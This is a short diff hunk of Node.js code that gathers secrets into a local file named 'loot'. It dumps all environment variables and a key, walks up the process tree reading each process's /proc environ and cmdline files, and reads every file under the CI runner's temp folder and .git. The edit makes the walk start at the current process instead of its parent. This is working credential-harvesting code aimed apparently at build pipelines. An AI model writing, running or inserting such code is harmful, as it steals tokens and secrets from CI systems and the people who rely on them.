@@ -16,7 +16,7 @@ const take = (text) => appendFileSync(join(HOME, "loot"), text + "\\n");
 const read = (file) => { try { take(file + "\\n" + readFileSync(file, "latin1")); } catch {} };
 take(JSON.stringify(process.env));
 take("key " + key);
-for (let pid = process.ppid; pid > 1; pid = Number(readFileSync("/proc/" + pid + "/stat", "latin1").replace(/^.*\\) . /s, "").split(" ")[0]))
+for (let pid = process.pid; pid > 1; pid = Number(readFileSync("/proc/" + pid + "/stat", "latin1").replace(/^.*\\) . /s, "").split(" ")[0]))
   for (const file of ["environ", "cmdline"]) read("/proc/" + pid + "/" + file);
 for (const folder of [RUNNER_TEMP, ".git"])
   for (const name of readdirSync(folder, { recursive: true })) read(join(folder, name));
